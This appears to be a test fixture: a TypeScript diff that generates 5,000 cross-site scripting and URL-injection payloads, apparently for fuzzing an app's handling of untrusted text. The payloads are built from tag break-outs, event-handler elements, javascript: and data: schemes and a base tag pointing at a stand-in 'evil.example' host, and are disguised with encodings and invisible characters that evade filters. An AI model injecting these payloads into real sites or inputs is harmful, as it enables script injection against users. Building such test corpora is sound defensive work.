@@ -1,0 +1,56 @@
+/*
+ * Words that would be more than words if they were ever taken for markup, for an address or for a placeholder: 5,000 of them, made by
+ * combination. The part that breaks out of where a word stands, what it then makes, and how it is disguised are declared once each.
+ */
+
+/** Ways out of a text, an attribute, a comment, an element of text, a script, and a sentence of ours. */
+const BREAKS = ['', '">', "'>", '--></title></textarea></style></script>', '`}]]>', '{email}{client}{project}{organization}{time}']
+
+/** What is put in the place of the dots: an attribute that runs something. */
+const ELEMENTS = [
+  '<img src=x …>',
+  '<svg …></svg>',
+  '<script src=data:,1 …></script>',
+  '<iframe srcdoc="<p>1</p>" …></iframe>',
+  '<object data=x …></object>',
+  '<video><source …></video>',
+  '<input autofocus …>',
+  '<details open …>',
+  '<a href="javascript:alert(1)" …>a</a>',
+  '<form action="javascript:alert(1)" …><button>a</button></form>',
+  '<style …>*{display:none}</style>',
+  '<base href="//evil.example/" …>',
+]
+const HANDLERS = ['load', 'error', 'focus', 'click', 'toggle', 'mouseover', 'animationstart', 'pointerrawupdate'].map(
+  (event) => `on${event}=alert(1)`,
+)
+
+const SCHEMES = ['javascript:', 'data:text/html,', 'data:image/svg+xml,', 'vbscript:', 'blob:', 'file:///', '//evil.example/']
+const BODIES = ['alert(1)', '<script>alert(1)</script>', '//%0aalert(1)', '"-alert(1)-"', '${alert(1)}', '', 'x@evil.example']
+
+const codeOf = (character: string): number => character.codePointAt(0) ?? 0
+const each = (text: string, change: (character: string, at: number) => string) => Array.from(text, change).join('')
+const punctuation = (text: string, change: (character: string) => string) => text.replace(/[<>"'():/]/g, change)
+
+/** What decoders, and their mistakes, would turn back into the first of them. */
+const DISGUISES: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => each(text, (character, at) => (at % 2 === 0 ? character.toUpperCase() : character)),
+  (text) => punctuation(text, (character) => `&#${codeOf(character)};`),
+  (text) => punctuation(text, (character) => `%${codeOf(character).toString(16)}`),
+  (text) => punctuation(text, (character) => `\\u00${codeOf(character).toString(16)}`),
+  // The same letters, as wide as Chinese ones: some normalizations make them narrow again.
+  (text) => punctuation(text, (character) => String.fromCodePoint(codeOf(character) + 0xfee0)),
+  (text) => text.replace(/(?<=[a-z])(?=[a-z])/, '\t\n'),
+  (text) => text.replace(/[<:/]/, '$&\u0000\u200b'),
+]
+
+const markup = BREAKS.flatMap((way) => ELEMENTS.flatMap((element) => HANDLERS.map((handler) => way + element.replace('…', handler))))
+const addresses = SCHEMES.flatMap((scheme) => BODIES.map((body) => scheme + body))
+const all = DISGUISES.flatMap((disguise) => [...markup, ...addresses].map(disguise))
+
+/** Shares no divisor with their number, so that whoever takes the first few has some of every kind. */
+const STRIDE = 1597
+
+/** Every payload once, in an order in which neighbours have little in common. */
+export const PAYLOADS: readonly string[] = all.map((_, at) => all[(at * STRIDE) % all.length] ?? '')
